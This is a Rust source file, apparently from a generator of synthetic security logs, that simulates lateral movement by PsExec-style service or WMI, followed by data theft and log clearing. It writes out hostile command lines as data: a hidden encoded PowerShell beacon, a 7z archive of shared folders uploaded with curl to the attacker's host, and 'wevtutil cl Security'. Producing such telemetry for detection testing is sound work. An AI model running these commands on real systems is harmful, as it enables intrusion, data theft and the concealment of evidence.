//! The second half of the intrusion: a logon over the network with stolen credentials, a foothold, an archive that is
//! carried out, and a log that is cleared.

use std::rc::Rc;

use super::{Plan, beacon_script, console, look_around};
use crate::sample::clock::{MINUTE, Moment, SECOND};
use crate::sample::domain::FILES;
use crate::sample::logons::Way;
use crate::sample::process::{Logon, Process, Start};
use crate::sample::programs;
use crate::sample::recorder::Recorder;
use crate::sample::script::encoded;
use crate::sample::station::Station;
use crate::sample::sysmon::Connection;

/// Records what happens on the second host; the shell that the intruder has there.
pub(super) fn take(
    recorder: &mut Recorder<'_>,
    station: &Station,
    beacon: &Rc<Process>,
    plan: &Plan,
) -> Rc<Process> {
    let logon = log_on(recorder, station, beacon, plan);
    let moment = plan.movement + 3 * SECOND;
    let shell = if plan.by_service {
        by_service(recorder, station, &logon, beacon, plan, moment)
    } else {
        by_wmi(recorder, station, &logon, beacon, plan, moment)
    };
    console(recorder, moment + 500, &shell);
    recorder.script_given(moment + 900, &shell, &beacon_script(plan));
    recorder.name_asked(moment + 1_300, &shell, &plan.name, &plan.address);
    recorder.connected(moment + 1_500, &shell, home(plan));
    look_around(recorder, &shell, plan.movement + 7 * MINUTE);
    carry_out(recorder, &shell, plan, plan.movement + 35 * MINUTE);
    clear(recorder, &shell, plan.cleared);
    recorder.logged_off(plan.movement + 40 * MINUTE, &logon, Way::Network(beacon.logon.host));
    shell
}

fn home(plan: &Plan) -> Connection<'_> {
    Connection { address: &plan.address, name: &plan.name, port: plan.port, initiated: true }
}

/// The stolen account logs on from the first host.
fn log_on(recorder: &mut Recorder<'_>, station: &Station, beacon: &Rc<Process>, plan: &Plan) -> Rc<Logon> {
    let (from, to, moment) = (beacon.logon.host, station.host, plan.movement);
    recorder.password_used(moment - 300, beacon, &plan.stolen, to);
    recorder.ticket_given(moment - 200, &plan.stolen, from, to);
    let port = if plan.by_service { 445 } else { 135 };
    let (address, name) = (recorder.host(to).address.clone(), recorder.host(to).full_name.clone());
    recorder.connected(
        moment - 100,
        beacon,
        Connection { address: &address, name: &name, port, initiated: true },
    );
    let (address, name) = (recorder.host(from).address.clone(), recorder.host(from).full_name.clone());
    let listener = if plan.by_service { station.kernel() } else { station.resident(&programs::SVCHOST) };
    recorder.connected(
        moment - 60,
        listener,
        Connection { address: &address, name: &name, port, initiated: false },
    );
    let logon = Logon {
        host: to,
        id: 0,
        guid: String::new(),
        account: Rc::clone(&plan.stolen),
        session: 0,
        integrity: "High",
    };
    let logon = recorder.new_logon(moment, to, logon);
    recorder.logged_on(moment, &logon, Way::Network(from), None);
    logon
}

/// As PsExec does: a program on the administrators' share, a service that runs it.
fn by_service(
    recorder: &mut Recorder<'_>,
    station: &Station,
    logon: &Logon,
    beacon: &Process,
    plan: &Plan,
    moment: Moment,
) -> Rc<Process> {
    let name = recorder.random.word(8);
    let file = format!("{name}.exe");
    recorder.share_opened(moment - 2_000, logon, beacon.logon.host, ("ADMIN$", r"C:\Windows"), &file);
    let path = format!(r"C:\Windows\{file}");
    recorder.file_created(moment - 1_800, station.kernel(), &path);
    recorder.service_installed(moment - 900, logon, &name, &format!(r"%SystemRoot%\{file}"));
    let services = station.resident(&programs::SERVICES);
    let start = Start::child(services, &programs::UNKNOWN, &path).at_path(path.clone());
    let service = recorder.start(moment, start, &[&programs::NTDLL, &programs::ADVAPI]);
    recorder.pipe(moment + 90, &service, &format!(r"\{name}_out"), true);
    let shell = recorder.start(moment + 200, shell_of(&service, &line(plan)), &[&programs::AUTOMATION]);
    recorder.process_ended(moment + 50 * MINUTE, &service);
    recorder.file_deleted(moment + 50 * MINUTE + SECOND, station.kernel(), &path, true);
    shell
}

/// Over WMI: the provider host starts the shell, on the caller's logon.
fn by_wmi(
    recorder: &mut Recorder<'_>,
    station: &Station,
    logon: &Rc<Logon>,
    beacon: &Process,
    plan: &Plan,
    moment: Moment,
) -> Rc<Process> {
    let share = ("IPC$", "");
    recorder.share_opened(moment - 1_500, logon, beacon.logon.host, share, "winreg");
    let launcher = station.resident(&programs::SVCHOST);
    let start = Start::child(
        launcher,
        &programs::WMIPRVSE,
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    );
    let provider = recorder.start(moment, start, &[&programs::NTDLL, &programs::OLE32]);
    recorder.pipe(moment + 60, &provider, r"\wkssvc", false);
    let shell =
        recorder.start(moment + 200, shell_of(&provider, &line(plan)).on(logon), &[&programs::AUTOMATION]);
    recorder.process_ended(moment + 55 * MINUTE, &provider);
    shell
}

fn shell_of<'a>(parent: &'a Rc<Process>, line: &'a str) -> Start<'a> {
    Start::child(parent, &programs::POWERSHELL, line)
}

fn line(plan: &Plan) -> String {
    format!("powershell.exe -NoP -NonI -W Hidden -EncodedCommand {}", encoded(&beacon_script(plan)))
}

/// Packs what is worth having and sends it home.
fn carry_out(recorder: &mut Recorder<'_>, shell: &Rc<Process>, plan: &Plan, moment: Moment) {
    let archive = format!(r"C:\ProgramData\{}.7z", recorder.random.word(5));
    let password = recorder.random.word(10);
    let folder = recorder.random.pick(&["Finance", "Contracts", "Personnel"]);
    let target = format!(r"\\{}\Shared\{folder}", recorder.host(FILES).name);
    let line = format!("\"{}\" a -mhe=on -p{password} {archive} {target}", programs::SEVENZIP.path);
    let packer = recorder.run(moment, Start::child(shell, &programs::SEVENZIP, &line), 95 * SECOND);
    recorder.file_created(moment + 400, &packer, &archive);
    let sent = moment + 3 * MINUTE;
    let line = format!("curl.exe -s -T {archive} https://{}:{}/{}", plan.name, plan.port, plan.path);
    let curl = recorder.run(sent, Start::child(shell, &programs::CURL, &line), 160 * SECOND);
    recorder.name_asked(sent + 120, &curl, &plan.name, &plan.address);
    recorder.connected(sent + 200, &curl, home(plan));
    recorder.file_deleted(sent + 4 * MINUTE, shell, &archive, false);
}

/// Clears the Security log.
fn clear(recorder: &mut Recorder<'_>, shell: &Rc<Process>, moment: Moment) {
    let line = "\"C:\\Windows\\system32\\wevtutil.exe\" cl Security";
    recorder.run(moment - 150, Start::child(shell, &programs::WEVTUTIL, line), 700);
    recorder.log_cleared(moment, &shell.logon);
    recorder.process_ended(moment + 2 * MINUTE, shell);
}
